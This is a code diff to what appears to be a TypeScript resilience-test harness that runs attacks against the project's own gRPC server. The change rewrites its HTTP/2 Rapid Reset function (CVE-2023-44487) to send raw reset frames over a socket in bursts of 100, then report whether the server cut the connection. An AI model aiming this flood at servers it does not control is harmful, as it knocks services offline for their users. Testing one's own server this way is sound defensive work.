@@ -1,7 +1,8 @@
 import type { Socket } from "node:net";
 import { setTimeout as wait } from "node:timers/promises";
+import { OPENING, resetCalls } from "../../test/grpc/flood-frames.ts";
 import { type AttackRow, type Target, tally } from "./attack-row.ts";
-import { METHODS, openSession, openStream } from "./grpc-attack.ts";
+import { METHODS } from "./grpc-attack.ts";
 import { firstStatus, openSocket } from "./http-attack.ts";
 import { repeated } from "./protobuf.ts";
 
@@ -10,6 +11,7 @@ const NO_SETTINGS = Buffer.from("000000040000000000", "hex");
 /** A connection that has not said what it wants should be closed by then. */
 const HANDSHAKE_MS = 30_000;
 const FLOOD_MS = 2000;
+const RESETS_AT_ONCE = 100;
 const EACH = 20;
 
 /** Beginnings of connections that go no further, by the server and the port that they go to. */
@@ -146,21 +148,22 @@ function headRow(name: string, head: string, expected: string): AttackRow {
   return { name: `head-${name}`, server: "null", prepare: () => attack };
 }
 
-/** Calls that are reset as soon as they are made (CVE-2023-44487). */
-async function rapidReset(target: Target): Promise<string> {
-  const session = await openSession(target);
+/**
+ * Calls that are reset as soon as they are made (CVE-2023-44487), as bytes: over TLS the client of node:http2 may not
+ * notice that it was cut.
+ */
+async function rapidReset({ grpc }: Target): Promise<string> {
+  const socket = openSocket(grpc);
+  socket.on("error", () => {}).resume();
+  socket.write(OPENING);
   const end = performance.now() + FLOOD_MS;
   let resets = 0;
-  while (performance.now() < end && !session.destroyed) {
-    for (let burst = 0; burst < 100; burst++, resets++) {
-      const stream = openStream(session, { path: METHODS.infer });
-      stream.on("error", () => {});
-      stream.close(8);
-    }
+  for (; performance.now() < end && !socket.destroyed; resets += RESETS_AT_ONCE) {
+    socket.write(resetCalls(METHODS.infer, { first: 2 * resets + 1, calls: RESETS_AT_ONCE }));
     await wait(1);
   }
-  const state = session.destroyed ? "cut" : "open";
-  session.destroy();
+  const state = socket.destroyed ? "cut" : "open";
+  socket.destroy();
   return `${resets} resets, ${state}`;
 }
 
